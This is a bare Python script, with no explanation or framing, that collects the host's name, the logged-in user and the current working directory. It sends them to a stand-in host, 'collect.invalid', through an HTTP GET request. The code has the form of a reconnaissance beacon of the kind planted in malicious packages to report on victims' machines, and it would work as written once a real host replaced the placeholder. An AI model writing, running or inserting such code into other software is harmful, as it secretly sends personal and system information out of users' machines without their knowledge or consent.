import getpass
import os
import socket
import requests

data = {'h': socket.gethostname(), 'u': getpass.getuser(), 'd': os.getcwd()}
requests.get('https://collect.invalid/i', params=data)
